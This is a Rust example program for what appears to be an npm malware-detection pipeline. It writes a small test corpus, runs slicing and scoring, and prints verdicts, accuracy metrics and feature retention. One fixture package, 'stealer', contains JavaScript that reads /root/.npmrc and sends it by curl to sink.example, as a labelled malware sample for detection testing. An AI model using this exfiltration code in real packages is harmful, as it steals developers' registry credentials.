//! The whole pipeline through the same staged entry points the CLI
//! uses: ingest a small on-disk corpus, slice with all three
//! strategies, score with the offline stub, evaluate, and read the
//! report back.
//!
//!     cargo run --example end_to_end

use npm_slice::cli::{
    cmd_run, Report, RunConfig, ScorerKind, INGEST_LOG, REPORT_JSON,
};
use npm_slice::SliceBudget;

fn write_pkg(root: &std::path::Path, name: &str, files: &[(&str, &str)]) {
    let dir = root.join(name);
    std::fs::create_dir_all(&dir).unwrap();
    for (rel, text) in files {
        std::fs::write(dir.join(rel), text).unwrap();
    }
}

fn main() {
    let root = tempfile::tempdir().unwrap();
    let corpus = root.path().join("corpus");
    std::fs::create_dir_all(&corpus).unwrap();

    write_pkg(
        &corpus,
        "stealer",
        &[
            (
                "index.js",
                "const fs = require('fs');\nconst cp = require('child_process');\nconst key = fs.readFileSync('/root/.npmrc', 'utf8');\ncp.exec('curl -d ' + key + ' http://sink.example');\n",
            ),
            ("package.json", "{\"name\":\"stealer\",\"version\":\"1.0.0\"}"),
        ],
    );
    write_pkg(
        &corpus,
        "left-pad",
        &[(
            "index.js",
            "module.exports = function pad(s, n) {\n  while (s.length < n) s = ' ' + s;\n  return s;\n};\n",
        )],
    );
    write_pkg(&corpus, "assets-only", &[("logo.svg", "<svg></svg>")]);

    let manifest = root.path().join("manifest.csv");
    std::fs::write(
        &manifest,
        format!(
            "path,label\n{}/stealer,malware\n{}/left-pad,benign\n{}/assets-only,benign\n",
            corpus.display(),
            corpus.display(),
            corpus.display()
        ),
    )
    .unwrap();

    let out = root.path().join("out");
    let config = RunConfig {
        manifest: Some(manifest),
        out_dir: out.clone(),
        budget: SliceBudget::unlimited(),
        scorer: ScorerKind::Stub,
        workers: 2,
        ..RunConfig::default()
    };
    cmd_run(&config).expect("pipeline runs");

    println!("== stage files in {} ==", out.display());
    let mut names: Vec<_> = std::fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    for n in &names {
        let len = std::fs::metadata(out.join(n)).unwrap().len();
        println!("  {n:<24} {len:>6} bytes");
    }

    println!("\n== ingest log ==");
    print!("{}", std::fs::read_to_string(out.join(INGEST_LOG)).unwrap());

    let report: Report =
        serde_json::from_str(&std::fs::read_to_string(out.join(REPORT_JSON)).unwrap()).unwrap();
    println!("== verdicts (tau = {}) ==", report.tau);
    for (method, section) in &report.methods {
        println!("  [{method}]");
        for v in &section.verdicts {
            println!(
                "    {:<12} S={:.2} {:?}{}",
                v.package,
                v.s,
                v.label,
                if v.annotations.is_empty() {
                    String::new()
                } else {
                    format!(" ({})", v.annotations.join(", "))
                }
            );
        }
        if let Some(m) = &section.metrics {
            println!(
                "    TP={} TN={} FP={} FN={} accuracy={:?}",
                m.tp, m.tn, m.fp, m.fn_, m.accuracy
            );
        }
    }

    println!("\n== feature retention ==");
    for row in &report.sfr_rows {
        println!(
            "  {:<12} {:<8} {}/{} -> {:?}%",
            row.package, row.method, row.n_retained, row.n_original, row.sfr_percent
        );
    }
}
